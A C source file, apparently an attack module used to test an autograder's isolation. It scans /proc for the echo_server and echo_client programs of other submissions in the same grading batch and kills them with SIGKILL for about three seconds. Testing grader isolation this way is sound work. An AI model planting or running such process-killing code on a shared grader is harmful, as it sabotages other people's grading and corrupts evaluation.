/*
 * Kills the programs of the other submissions graded at the same time:
 * every echo_server or echo_client it can see that is not its own, for
 * the first seconds of its run (in a child, while it serves).
 */
#include <dirent.h>

#include "attack.h"

#define ROUNDS 300
#define ROUND_US 10000		/* 3 s in all */

/* Whether pid runs a lab 01 program other than ours. */
static int is_other_program(const char *pid, const char *own)
{
	char path[64], exe[PATH_MAX];
	ssize_t n;
	const char *name;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	n = readlink(path, exe, sizeof(exe) - 1);
	if (n <= 0)
		return 0;
	exe[n] = '\0';
	name = strrchr(exe, '/');
	if (!name || (strcmp(name, "/echo_server") != 0 && strcmp(name, "/echo_client") != 0))
		return 0;
	/* Another submission's build in the same batch: not ours, but in the
	 * batch's temporary folder, so that no other grading is hit. */
	const char *batch = strstr(own, "/batch-");
	return batch && strcmp(exe, own) != 0 &&
	       strncmp(exe, own, (size_t)(batch - own) + strlen("/batch-")) == 0;
}

void attack(void)
{
	char own[PATH_MAX];
	ssize_t n = readlink("/proc/self/exe", own, sizeof(own) - 1);
	int killed = 0;

	if (n <= 0 || fork() != 0)
		return;
	own[n] = '\0';
	for (int round = 0; round < ROUNDS; round++) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			if (isdigit((unsigned char)entry->d_name[0]) &&
			    is_other_program(entry->d_name, own) &&
			    kill(atoi(entry->d_name), SIGKILL) == 0)
				killed++;
		}
		if (proc)
			closedir(proc);
		usleep(ROUND_US);
	}
	if (killed)
		attack_report("killed %d programs of other submissions", killed);
	_exit(0);
}
